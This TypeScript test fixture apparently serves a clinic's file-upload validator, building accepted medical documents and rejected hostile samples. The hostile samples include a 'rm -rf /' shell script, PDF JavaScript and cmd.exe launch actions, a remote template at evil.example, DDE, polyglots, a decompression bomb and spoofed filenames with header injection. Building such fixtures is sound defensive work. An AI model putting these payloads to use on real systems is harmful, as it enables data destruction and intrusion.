import { zipSync } from 'fflate';
import { office, relation } from './office.ts';
import { pdf } from './pdf.ts';
import { jpeg, png, tiff } from './pictures.ts';

/** A file as somebody might bring it, with what must become of it. */
export interface CorpusFile {
  readonly about: string;
  readonly name: string;
  readonly bytes: Buffer;
}

export interface HostileFile extends CorpusFile {
  readonly code: string;
}

const text = (content: string) => Buffer.from(content);
const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const wide = (content: string) => Buffer.from(content, 'utf16le');
const archive = Buffer.from(zipSync({ 'a.txt': text('x') }));
const bomb = new Uint8Array(40 * 1_048_576);

/** Files every clinic receives: all of them must be taken. */
export function harmlessFiles(): CorpusFile[] {
  return [
    { about: 'PDF の紹介状', name: '紹介状.pdf', bytes: pdf() },
    {
      about: 'オブジェクトストリームのある PDF',
      name: 'a.pdf',
      bytes: pdf({ packed: ['<< /Type /Font >>'] }),
    },
    { about: '開く頁を示すだけの PDF', name: 'b.pdf', bytes: pdf({ catalogue: '/OpenAction [3 0 R /Fit]' }) },
    {
      about: 'ウェブへのリンクのある PDF',
      name: 'c.pdf',
      bytes: pdf({
        objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.jp) >> >>'],
      }),
    },
    { about: 'PNG', name: 'scan.PNG', bytes: png() },
    { about: 'JPEG(位置情報つき)', name: '写真.jpg', bytes: jpeg({ place: 'N35.6 E139.7', turn: 6 }) },
    {
      about: '後ろに動画の付いた携帯の写真',
      name: 'IMG_0001.jpeg',
      bytes: Buffer.concat([jpeg(), text('\0\0\0\x18ftypmp42....')]),
    },
    { about: 'TIFF', name: 'fax.tif', bytes: tiff() },
    { about: 'Word', name: '診療情報提供書.docx', bytes: office('docx') },
    {
      about: 'リンクのある Word',
      name: 'link.docx',
      bytes: office('docx', { 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.jp') }),
    },
    { about: 'Excel', name: '検査値.xlsx', bytes: office('xlsx') },
    { about: 'テキスト(UTF-8)', name: 'memo.txt', bytes: text('経過は良好です。\n') },
    { about: 'CSV(Shift_JIS)', name: 'lab.csv', bytes: Buffer.from('8c9f8db892b82c33350d0a', 'hex') },
    { about: 'フォルダー付きの名前', name: 'C:\\scan\\結果.txt', bytes: text('正常') },
  ];
}

/** Files made to harm: none of them may be taken, each for the reason that is true. */
export function hostileFiles(): HostileFile[] {
  return [
    ...programs(),
    ...documents(),
    ...pdfs(),
    ...pictures(),
    { about: '空のファイル', name: 'empty.pdf', bytes: Buffer.alloc(0), code: 'FILE_EMPTY' },
    {
      about: '向きを変える文字で拡張子を隠した名前',
      name: '紹介状\u202Efdp.exe',
      bytes: pdf(),
      code: 'FILE_NAME_UNSAFE',
    },
    { about: '見えない文字の入った名前', name: '紹介\u200B状.pdf', bytes: pdf(), code: 'FILE_NAME_UNSAFE' },
    { about: '改行の入った名前', name: 'a\r\nSet-Cookie: x.pdf', bytes: pdf(), code: 'FILE_NAME_UNSAFE' },
    { about: '機器の名前', name: 'CON.pdf', bytes: pdf(), code: 'FILE_NAME_UNSAFE' },
  ];
}

function programs(): HostileFile[] {
  const exe = Buffer.concat([text('MZ'), Buffer.alloc(200, 1)]);
  return [
    { about: '名前を変えたプログラム', name: '紹介状.pdf', bytes: exe, code: 'FILE_EXECUTABLE' },
    { about: 'プログラム', name: 'setup.exe', bytes: exe, code: 'FILE_EXECUTABLE' },
    {
      about: 'ELF',
      name: 'a.txt',
      bytes: Buffer.concat([text('\x7fELF'), Buffer.alloc(64, 2)]),
      code: 'FILE_EXECUTABLE',
    },
    {
      about: 'シェルスクリプト',
      name: 'a.txt',
      bytes: text('#!/bin/sh\nrm -rf /\n'),
      code: 'FILE_EXECUTABLE',
    },
    { about: '圧縮ファイル', name: 'a.zip', bytes: archive, code: 'FILE_ARCHIVE' },
    { about: 'Word と名乗る圧縮ファイル', name: 'a.docx', bytes: archive, code: 'FILE_ARCHIVE' },
    {
      about: 'HTML',
      name: 'a.html',
      bytes: text('<!doctype html><script>alert(1)</script>'),
      code: 'FILE_KIND_REFUSED',
    },
    {
      about: 'テキストと名乗る HTML',
      name: 'a.txt',
      bytes: text(' \n<!DOCTYPE html><script>x</script>'),
      code: 'FILE_ACTIVE_CONTENT',
    },
    {
      about: 'SVG',
      name: 'a.svg',
      bytes: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      code: 'FILE_KIND_REFUSED',
    },
    {
      about: '画像と名乗る SVG',
      name: 'a.png',
      bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
      code: 'FILE_BROKEN',
    },
    {
      about: 'RTF',
      name: 'a.txt',
      bytes: text('{\\rtf1\\ansi{\\object\\objdata}}'),
      code: 'FILE_ACTIVE_CONTENT',
    },
    { about: '拡張子の違う画像', name: 'a.pdf', bytes: png(), code: 'FILE_TYPE_MISMATCH' },
    {
      about: 'テキストと名乗るバイナリ',
      name: 'a.txt',
      bytes: Buffer.from([1, 2, 0, 3, 255, 254, 0]),
      code: 'FILE_BROKEN',
    },
  ];
}

function documents(): HostileFile[] {
  return [
    {
      about: '古い形式の Word',
      name: 'a.doc',
      bytes: Buffer.concat([OLE, Buffer.alloc(600)]),
      code: 'FILE_OLD_OFFICE',
    },
    {
      about: 'マクロのある古い形式',
      name: 'a.doc',
      bytes: Buffer.concat([OLE, Buffer.alloc(600), wide('Macros'), wide('VBA')]),
      code: 'FILE_MACRO',
    },
    {
      about: 'パスワード付きの Word',
      name: 'a.docx',
      bytes: Buffer.concat([OLE, Buffer.alloc(600), wide('EncryptedPackage')]),
      code: 'FILE_ENCRYPTED',
    },
    {
      about: 'マクロ有効の Word',
      name: 'a.docm',
      bytes: office('docm', { 'word/vbaProject.bin': OLE }),
      code: 'FILE_MACRO',
    },
    {
      about: '名前だけ docx のマクロ',
      name: 'a.docx',
      bytes: office('docx', { 'word/vbaProject.bin': OLE }),
      code: 'FILE_MACRO',
    },
    { about: '種類だけ docx と名乗るマクロ有効', name: 'a.docx', bytes: office('docm'), code: 'FILE_MACRO' },
    {
      about: 'Excel 4 マクロ',
      name: 'a.xlsx',
      bytes: office('xlsx', { 'xl/macrosheets/sheet1.xml': '<x/>' }),
      code: 'FILE_MACRO',
    },
    {
      about: 'ActiveX',
      name: 'a.docx',
      bytes: office('docx', { 'word/activeX/activeX1.xml': '<x/>' }),
      code: 'FILE_MACRO',
    },
    {
      about: '埋め込まれたファイル',
      name: 'a.docx',
      bytes: office('docx', { 'word/embeddings/oleObject1.bin': OLE }),
      code: 'FILE_EMBEDDED',
    },
    {
      about: '外から取り寄せるひな形',
      name: 'a.docx',
      bytes: office('docx', {
        'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm'),
      }),
      code: 'FILE_EXTERNAL_LINK',
    },
    {
      about: 'DDE',
      name: 'a.docx',
      bytes: office('docx', {
        'word/footer1.xml':
          '<w:ftr><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText></w:ftr>',
      }),
      code: 'FILE_ACTIVE_CONTENT',
    },
    {
      about: '解凍すると膨れる',
      name: 'a.docx',
      bytes: office('docx', { 'word/media/a.xml': bomb }),
      code: 'FILE_BOMB',
    },
    { about: 'Word と Excel の取り違え', name: 'a.xlsx', bytes: office('docx'), code: 'FILE_TYPE_MISMATCH' },
    {
      about: '前に何か付いた Word',
      name: 'a.docx',
      bytes: Buffer.concat([text('GIF89a'), office('docx')]),
      code: 'FILE_KIND_REFUSED',
    },
    {
      about: '後ろに何か付いた Word',
      name: 'a.docx',
      bytes: Buffer.concat([office('docx'), text('<script>x</script>')]),
      code: 'FILE_POLYGLOT',
    },
    { about: '切れた Word', name: 'a.docx', bytes: office('docx').subarray(0, -30), code: 'FILE_BROKEN' },
  ];
}

function pdfs(): HostileFile[] {
  return [
    {
      about: 'JavaScript のある PDF',
      name: 'a.pdf',
      bytes: pdf({ catalogue: `/OpenAction ${JS}` }),
      code: 'FILE_ACTIVE_CONTENT',
    },
    {
      about: '綴りを隠した JavaScript',
      name: 'a.pdf',
      bytes: pdf({ catalogue: `/OpenAction ${JS.replace('/JavaScript', '/J#61vaScr#69pt')}` }),
      code: 'FILE_ACTIVE_CONTENT',
    },
    {
      about: 'オブジェクトストリームの中の JavaScript',
      name: 'a.pdf',
      bytes: pdf({ packed: [JS] }),
      code: 'FILE_ACTIVE_CONTENT',
    },
    {
      about: '二重に詰めたオブジェクトストリーム',
      name: 'a.pdf',
      bytes: pdf({ packed: ['<< /Type /Font >>'], filter: '[/ASCII85Decode /FlateDecode]' }),
      code: 'FILE_BROKEN',
    },
    {
      about: '詰め方を別の所に書いたオブジェクトストリーム',
      name: 'a.pdf',
      bytes: pdf({ packed: ['<< /Type /Font >>'], filter: '7 0 R' }),
      code: 'FILE_BROKEN',
    },
    {
      about: 'プログラムを始める PDF',
      name: 'a.pdf',
      bytes: pdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
      code: 'FILE_ACTIVE_CONTENT',
    },
    {
      about: 'ファイルを抱えた PDF',
      name: 'a.pdf',
      bytes: pdf({ catalogue: '/Names << /EmbeddedFiles 10 0 R >>' }),
      code: 'FILE_EMBEDDED',
    },
    {
      about: 'XFA フォーム',
      name: 'a.pdf',
      bytes: pdf({ catalogue: '/AcroForm << /XFA [] >>' }),
      code: 'FILE_ACTIVE_CONTENT',
    },
    {
      about: 'ほかの PDF を開く PDF',
      name: 'a.pdf',
      bytes: pdf({ objects: ['<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>'] }),
      code: 'FILE_EXTERNAL_LINK',
    },
    {
      about: 'パスワード付きの PDF',
      name: 'a.pdf',
      bytes: pdf({ trailer: '/Encrypt 9 0 R' }),
      code: 'FILE_ENCRYPTED',
    },
    { about: '切れた PDF', name: 'a.pdf', bytes: pdf().subarray(0, -40), code: 'FILE_BROKEN' },
    {
      about: '圧縮ファイルを兼ねた PDF',
      name: 'a.pdf',
      bytes: Buffer.concat([pdf(), archive, text('%%EOF')]),
      code: 'FILE_POLYGLOT',
    },
    {
      about: '後ろに長いものが付いた PDF',
      name: 'a.pdf',
      bytes: Buffer.concat([pdf(), Buffer.alloc(5_000, 65)]),
      code: 'FILE_POLYGLOT',
    },
  ];
}

function pictures(): HostileFile[] {
  return [
    {
      about: '圧縮ファイルを兼ねた PNG',
      name: 'a.png',
      bytes: Buffer.concat([png(), archive]),
      code: 'FILE_POLYGLOT',
    },
    {
      about: '圧縮ファイルを兼ねた JPEG',
      name: 'a.jpg',
      bytes: Buffer.concat([jpeg(), archive]),
      code: 'FILE_POLYGLOT',
    },
    {
      about: '後ろに HTML の付いた JPEG',
      name: 'a.jpg',
      bytes: Buffer.concat([jpeg(), text('<script>x</script>')]),
      code: 'FILE_POLYGLOT',
    },
    {
      about: '後ろにプログラムの付いた PNG',
      name: 'a.png',
      bytes: Buffer.concat([png(), text('MZ....')]),
      code: 'FILE_POLYGLOT',
    },
    {
      about: '巨大だと言い張る PNG',
      name: 'a.png',
      bytes: png({ claims: [60_000, 60_000] }),
      code: 'FILE_TOO_MANY_PIXELS',
    },
    {
      about: '巨大だと言い張る JPEG',
      name: 'a.jpg',
      bytes: jpeg({ claims: 65_000 }),
      code: 'FILE_TOO_MANY_PIXELS',
    },
    { about: '切れた PNG', name: 'a.png', bytes: png().subarray(0, -20), code: 'FILE_BROKEN' },
    { about: '切れた JPEG', name: 'a.jpg', bytes: jpeg().subarray(0, -2), code: 'FILE_BROKEN' },
    { about: '巡り続ける TIFF', name: 'a.tif', bytes: tiff({ next: 8 }), code: 'FILE_BROKEN' },
    {
      about: '巨大だと言い張る TIFF',
      name: 'a.tif',
      bytes: tiff({ width: 1_000_000_000 }),
      code: 'FILE_TOO_MANY_PIXELS',
    },
    {
      about: '圧縮ファイルを兼ねた TIFF',
      name: 'a.tif',
      bytes: Buffer.concat([tiff(), archive]),
      code: 'FILE_POLYGLOT',
    },
  ];
}
